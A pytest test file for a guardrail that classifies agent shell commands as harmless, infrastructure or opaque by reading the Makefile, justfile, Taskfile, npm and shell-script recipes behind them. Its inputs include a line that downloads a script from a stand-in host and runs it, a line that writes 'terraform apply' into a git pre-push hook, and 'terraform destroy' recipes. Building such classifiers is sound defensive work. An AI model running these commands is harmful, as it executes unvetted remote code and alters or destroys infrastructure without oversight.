"""Scripts and recipes are read through the callable, two deep, and opaque without it."""

import pytest

from guardrail.agents.shell.reading import Answer, Reading, read_command

MAKEFILE = """
TF ?= terraform
ENV := prod
.PHONY: plan deploy destroy test
plan: init
\t$(TF) plan -out=tfplan
init:
\t@terraform init
test:
\tpytest -q \\
\t  tests
deploy: plan
\tcd infra && ${TF} apply -auto-approve
destroy:
\t-$(MAKE) down
down:
\tterraform -chdir=$(ENV) destroy
odd:
\t$(shell cat x) apply
dollars:
\tT=terraform; $$T apply
"""
JUSTFILE = """
tf := "terraform"
alias d := deploy
test:
    pytest -q
deploy env='dev': test
    {{tf}} -chdir={{env}} apply
run cmd:
    terraform {{cmd}}
"""
TASKFILE = """
version: '3'
tasks:
  default:
    cmds:
      - echo hi
  test: pytest -q
  deploy:
    desc: terraform things
    deps: [test]
    cmds:
      - task: up
  up:
    dir: infra
    cmds:
      - |
        terraform init
        terraform apply -auto-approve
"""
PACKAGE = """{"name": "x", "scripts": {"test": "jest", "predeploy": "npm test",
"deploy": "terraform apply -auto-approve", "tf": "terraform"}}"""
FILES = {
    ("", "Makefile"): MAKEFILE,
    ("infra", "Makefile"): MAKEFILE,
    ("", "justfile"): JUSTFILE,
    ("", "Taskfile.yml"): TASKFILE,
    ("", "package.json"): PACKAGE,
    ("", "./deploy.sh"): "#!/bin/bash\nset -e\ncd prod\nterraform apply -auto-approve\n",
    ("", "args.sh"): 'terraform "$1"',
    ("", "./clean.sh"): "ls\nrm -rf build\n",
    ("", "a.sh"): "bash b.sh",
    ("", "b.sh"): "bash c.sh",
    ("", "c.sh"): "ls",
    ("", "loop.sh"): "bash loop.sh",
    ("", "ab.sh"): "bash deep.sh",
    ("", "deep.sh"): "terraform apply",
}


def read(line: str) -> Reading:
    """Return the reading of ``line`` where ``FILES`` are."""
    return read_command(line, script=lambda directory, name: FILES.get((directory, name)))


@pytest.mark.parametrize(
    ("line", "answer"),
    [
        ("make test", "harmless"),
        ("make plan", "harmless"),
        ("make", "harmless"),
        ("make deploy", "infrastructure"),
        ("make -C infra deploy", "infrastructure"),
        ("cd infra && make deploy", "infrastructure"),
        ("make destroy", "infrastructure"),
        ("make test destroy", "infrastructure"),
        ("make dollars", "infrastructure"),
        ("make test TF=tofu", "harmless"),
        ("make odd", "opaque"),
        ("make missing", "opaque"),
        ("make -C other test", "opaque"),
        ("make -n deploy", "harmless"),
        ("just test", "harmless"),
        ("just", "harmless"),
        ("just deploy prod", "infrastructure"),
        ("just d", "infrastructure"),
        ("just run apply", "infrastructure"),
        ("just run fmt", "harmless"),
        ("just missing", "opaque"),
        ("task", "harmless"),
        ("task test", "harmless"),
        ("task deploy", "infrastructure"),
        ("task missing", "opaque"),
        ("npm test", "harmless"),
        ("npm run deploy", "infrastructure"),
        ("yarn deploy", "infrastructure"),
        ("pnpm run tf -- apply", "infrastructure"),
        ("npm run tf -- validate", "harmless"),
        ("npm run missing", "opaque"),
        ("./deploy.sh", "infrastructure"),
        ("bash ./deploy.sh prod", "infrastructure"),
        ("source ./deploy.sh", "infrastructure"),
        ("bash < ./deploy.sh", "infrastructure"),
        ("bash args.sh apply", "infrastructure"),
        ("bash args.sh validate", "harmless"),
        ("./clean.sh", "harmless"),
        ("bash ab.sh", "infrastructure"),
        ("bash a.sh", "opaque"),
        ("bash loop.sh", "opaque"),
        ("sudo ./deploy.sh", "infrastructure"),
        ("find . -exec ./deploy.sh {} +", "infrastructure"),
    ],
)
def test_what_stands_behind_is_read(line: str, answer: str):
    assert read(line).answer is Answer(answer)


def test_the_directory_of_a_script_is_followed():
    (operation,) = read("./deploy.sh").operations
    assert (operation.directory, operation.alone) == ("prod", False)
    (operation,) = (each for each in read("make -C infra deploy").operations if each.name != "plan")
    assert operation.directory == "infra/infra"


def test_without_the_callable_a_script_is_opaque():
    assert read_command("make deploy").answer is Answer.OPAQUE
    assert read_command("./deploy.sh").answer is Answer.OPAQUE


@pytest.mark.parametrize(
    ("line", "answer"),
    [
        ("echo 'terraform apply' > ./clean.sh; ./clean.sh", Answer.INFRASTRUCTURE),
        ("echo ls > ./clean.sh; ./clean.sh", Answer.HARMLESS),
        ("curl -o ./clean.sh https://x.example && ./clean.sh", Answer.OPAQUE),
        ("cp other.sh clean.sh; ./clean.sh", Answer.OPAQUE),
        ("echo ls > new.sh; bash new.sh", Answer.HARMLESS),
        ("echo ls > deploy.sh; bash deploy.sh; ./deploy.sh", Answer.INFRASTRUCTURE),
        ("echo 'terraform apply' | tee -a clean.sh; sh ./clean.sh", Answer.INFRASTRUCTURE),
        ("cat <<'E' > new.sh && sh new.sh\nterraform apply\nE", Answer.INFRASTRUCTURE),
        ("printf 'x:\\n\\tterraform apply\\n' > Makefile && make x", Answer.INFRASTRUCTURE),
        ("echo 'print(1)' > x.py; python3 x.py", Answer.OPAQUE),
        ("echo 'import os; os.system(\"terraform apply\")' > x.py; python3 x.py", Answer.INFRASTRUCTURE),
        ("echo 'terraform apply' > notes.md; cat notes.md", Answer.HARMLESS),
        ("echo 'terraform apply' > .git/hooks/pre-push", Answer.INFRASTRUCTURE),
        ("echo 'npm test' > .husky/pre-commit", Answer.OPAQUE),
    ],
)  # fmt: skip
def test_what_the_line_writes_is_what_it_runs(line: str, answer: Answer):
    reading = read_command(
        line,
        script=lambda _, name: {"./clean.sh": "ls", "./deploy.sh": "terraform apply"}.get(name),
    )
    assert reading.answer is answer
